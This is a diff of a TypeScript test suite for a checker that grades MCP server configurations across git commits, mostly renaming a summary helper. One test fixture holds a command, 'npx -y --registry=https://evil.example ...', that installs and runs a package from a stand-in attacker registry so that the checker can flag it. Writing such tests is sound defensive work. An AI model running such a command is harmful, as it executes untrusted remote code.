@@ -74,7 +74,7 @@ const baseOf = (source: FileSource): BaseFound => ({
 });
 
 /** `fail: unlisted, grade-lost`: the verdict, and the rules that speak of the change. */
-function said({ verdict, servers, problems }: Report): string {
+function summaryOf({ verdict, servers, problems }: Report): string {
   const rules = [
     ...servers.flatMap((server) => (server.isCounted ? server.problems : [])),
     ...problems,
@@ -86,7 +86,8 @@ const judged = async (
   base: Files,
   head: Files,
   inputs: Record<string, string> = {},
-): Promise<string> => said(await judge(repository(head), baseOf(repository(base)), { inputs }));
+): Promise<string> =>
+  summaryOf(await judge(repository(head), baseOf(repository(base)), { inputs }));
 
 /** `.mcp.json` with these servers: a command line or an address by alias, or a whole entry. */
 function mcp(servers: Readonly<Record<string, string | object>>): object {
@@ -193,7 +194,9 @@ describe('the graded server gives way to one of which nothing is known', () => {
       with1(`npx -y --registry=https://evil.example ${good.slice(7)}`),
     ],
   ])('%s', async ([, base, head]) => {
-    expect(await judged(base, head)).toMatch(/^fail: .*grade-lost/);
+    const result = await judged(base, head);
+    expect(result).toMatch(/^fail: /);
+    expect(result).toContain('grade-lost');
   });
 
   test.for<[string, Files, Files, string]>([
@@ -725,7 +728,7 @@ async function judgedOnDisk(base: Files, head: Files, options = {}): Promise<str
   const root = await newRepository();
   const before = await commit(root, base);
   const after = await commit(root, head);
-  return said(await judgeCheckout(root, { base: before, head: after, sha: after }, options));
+  return summaryOf(await judgeCheckout(root, { base: before, head: after, sha: after }, options));
 }
 
 describe('in a real repository', () => {
@@ -917,7 +920,7 @@ describe('in a real repository', () => {
     await commit(join(root, 'tools'), { '.mcp.json': mcp({ files: bad }) });
     const head = await commitAll(root);
     const report = await judgeCheckout(root, { base, head, sha: head });
-    expect(said(report)).toMatch(/^fail: .*score-below/);
+    expect(summaryOf(report)).toMatch(/^fail: .*score-below/);
   });
 });
 
@@ -944,7 +947,9 @@ describe('the base is chosen by nobody who is judged', () => {
       { head: tip, sha: 'a'.repeat(40) },
       { head, sha: 'a'.repeat(40) },
     ]) {
-      expect(said(await judgeCheckout(root, { base, ...event }))).toMatch(/^fail: .*score-below/);
+      expect(summaryOf(await judgeCheckout(root, { base, ...event }))).toMatch(
+        /^fail: .*score-below/,
+      );
     }
   });
 
@@ -973,7 +978,7 @@ describe('the base is chosen by nobody who is judged', () => {
       const base = await commitOf(without, ...both);
       const head = await commitOf(withBad, ...both.toReversed());
       await git(root, 'checkout', '-q', '-f', head);
-      expect(said(await judgeCheckout(root, { base, head, sha: 'a'.repeat(40) }))).toMatch(
+      expect(summaryOf(await judgeCheckout(root, { base, head, sha: 'a'.repeat(40) }))).toMatch(
         /^fail: .*score-below/,
       );
     }
@@ -985,7 +990,7 @@ describe('the base is chosen by nobody who is judged', () => {
     const base = await commit(root, badFiles);
     await git(root, 'checkout', '-q', start);
     const head = await commit(root, { ...clean, 'b.txt': '' });
-    expect(said(await judgeCheckout(root, { base, head, sha: head }))).toBe(unchanged);
+    expect(summaryOf(await judgeCheckout(root, { base, head, sha: head }))).toBe(unchanged);
   });
 
   test('a server that the base took out since then does not come back with a merge', async () => {
@@ -996,7 +1001,7 @@ describe('the base is chosen by nobody who is judged', () => {
     await commit(root, { ...badFiles, 'b.txt': '' });
     await git(root, 'merge', '-q', '-s', 'ours', '-m', 'x', base);
     const head = await git(root, 'rev-parse', 'HEAD');
-    expect(said(await judgeCheckout(root, { base, head, sha: head }))).toMatch(
+    expect(summaryOf(await judgeCheckout(root, { base, head, sha: head }))).toMatch(
       /^fail: .*score-below/,
     );
   });
@@ -1012,7 +1017,7 @@ describe('the base is chosen by nobody who is judged', () => {
         if (at === middle && event !== 'pull_request') continue;
         const report = await judgeCheckout(root, { event, base, head, sha: head });
         expect(report.run).toMatchObject({ scope: 'all', base: null });
-        expect(said(report)).toMatch(/^fail: .*score-below/);
+        expect(summaryOf(report)).toMatch(/^fail: .*score-below/);
       }
     }
   });
@@ -1026,7 +1031,7 @@ describe('the base is chosen by nobody who is judged', () => {
       for (const event of ['pull_request', 'push', 'merge_group']) {
         const report = await judgeCheckout(root, { event, base, head, sha: head });
         expect(report.run.scope).toBe('all');
-        expect(said(report)).toMatch(/^fail: .*score-below/);
+        expect(summaryOf(report)).toMatch(/^fail: .*score-below/);
       }
     }
   });
@@ -1045,14 +1050,14 @@ describe('the base is chosen by nobody who is judged', () => {
     });
     const report = await judgeCheckout(root, { event: 'push', base, head, sha: head });
     expect(report.run).toMatchObject({ scope: 'all', base: null });
-    expect(said(report)).toMatch(/^fail: .*score-below/);
+    expect(summaryOf(report)).toMatch(/^fail: .*score-below/);
   });
 
   test('a push is judged by the policy that it holds', async () => {
     const root = await newRepository();
     const base = await commit(root, { ...clean, ...strict });
     const head = await commit(root, { ...with1(unknown), ...strict });
-    expect(said(await judgeCheckout(root, { event: 'push', base, head, sha: head }))).toBe(
+    expect(summaryOf(await judgeCheckout(root, { event: 'push', base, head, sha: head }))).toBe(
       'fail: unlisted',
     );
   });
@@ -1124,7 +1129,7 @@ describe('the policy is chosen by nobody who is judged', () => {
     const base = await commit(root, soft);
     const head = await commit(root, { ...ungraded, ...soft });
     const event = { base, head, sha: head, baseBranch: 'mild' };
-    expect(said(await judgeCheckout(root, event))).toMatch(/^fail: .*unlisted/);
+    expect(summaryOf(await judgeCheckout(root, event))).toMatch(/^fail: .*unlisted/);
   });
 
   test('whose text the checkout lacks is in force all the same', async () => {
